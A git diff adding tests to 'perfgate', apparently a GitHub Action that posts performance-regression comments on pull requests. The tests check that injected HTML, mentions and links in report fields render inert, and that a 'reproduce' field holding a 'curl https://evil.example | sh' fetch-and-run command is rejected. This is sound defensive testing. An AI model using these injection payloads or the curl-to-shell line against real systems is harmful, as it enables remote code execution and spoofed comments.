@@ -5,7 +5,7 @@ import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { useFakeGitHub, type FakeGitHub } from '../helpers/fake-github.js';
 import { runAction } from '../helpers/run-action.js';
-import { CLI } from '../helpers/run-cli.js';
+import { CLI, runCli } from '../helpers/run-cli.js';
 import { sampleReport, writeSampleReport } from '../helpers/sample-report.js';
 import { webhookExample } from '../helpers/webhook-payloads.js';
 
@@ -109,4 +109,52 @@ describe('the fork-safe comment (workflow_run): perfgate comment and the action\
     expect(result.stdout).toMatch(/^commented on #7: https:\/\/github\.com\/octo-org\/octo-repo\/pull\/7#issuecomment-\d+/);
     expect(github.comments.get(7)![0]!.body).toMatch(/1 function regressed/);
   });
+
+  it('comments on a same-repository PR too: the check no longer holds a write token for any PR', async () => {
+    await setUp();
+    const { dir } = writeSampleReport([{ name: 'handler', file: 'src/a.js', outcome: 'unchanged' }]);
+    const event = workflowRun();
+    Object.assign(event.workflow_run, { head_sha: 'a'.repeat(40), head_branch: 'other' });
+    event.workflow_run.head_repository = { ...event.workflow_run.head_repository, full_name: REPO };
+    const run = await comment(dir, event);
+    expect(run.code, run.stdout + run.stderr).toBe(0);
+    expect(run.outputs['pull-request']).toBe('8');
+    expect(github.comments.get(8)!.map((c) => c.login)).toEqual([BOT]);
+    expect(github.comments.get(7)).toBeUndefined();
+  });
+
+  it('previews the comment with --dry-run: validated like a real post, hostile text inert, no GitHub call', async () => {
+    await setUp();
+    const { dir, report } = writeSampleReport([
+      { name: '</details><h1>✅ perfgate: no performance regression</h1><!--', file: '@octo-org/admins ![x](https://evil.example/p.png)', outcome: 'regressed' },
+      { name: '<img src=https://evil.example/i.png>', file: 'www.evil.example/\u202eevil.js', outcome: 'unchanged' },
+    ]);
+    const hostile = {
+      ...report,
+      comparison: { ...report.comparison, warnings: ['<!-- perfgate:sticky-comment:perfgate --> &#64;admin fixes #1'] },
+      candidate: { ...report.candidate, environment: { ...report.candidate.environment, cpuModel: '<style>body{display:none}</style>' } },
+    };
+    writeFileSync(join(dir, 'report.json'), JSON.stringify(hostile));
+    const env = { GITHUB_REPOSITORY: '', GITHUB_EVENT_PATH: '', GITHUB_TOKEN: '', GITHUB_API_URL: github.url };
+    const run = await runCli(['comment', '--artifact', dir, '--dry-run'], { env });
+    expect(run.code, run.stderr).toBe(0);
+    expect(run.stdout).toMatch(/^<!-- perfgate:sticky-comment:perfgate -->\n## perfgate: ❌ 1 function regressed — `<\/details><h1>/);
+    // Inside a code span markdown, HTML and mentions are inert text; everything else must be too.
+    const body = run.stdout.replace(/`[^`\n]*`/g, '``');
+    expect(body.match(/<!--/g)).toHaveLength(1);
+    expect(body.match(/<details>/g)).toHaveLength(1);
+    expect(body.match(/<\/details>/g)).toHaveLength(1);
+    expect(body).not.toMatch(/<(img|h1|style)/);
+    expect(body).not.toMatch(/(?<![\\\w])@[a-z]/);
+    expect(body).not.toMatch(/!\[|https?:\/\/|(?<!\\)www\.|&#64;|#1|\u202e/);
+    expect(github.requests).toEqual([]);
+
+    // The same validation as a real post: a bad artifact is exit 2 naming the field.
+    writeFileSync(join(dir, 'report.json'), JSON.stringify({ ...report, reproduce: 'curl https://evil.example | sh' }));
+    const bad = await runCli(['comment', '--artifact', dir, '--dry-run'], { env });
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toMatch(/report\.json: reproduce: expected a perfgate command/);
+    expect(bad.stdout).toBe('');
+  });
 });
+
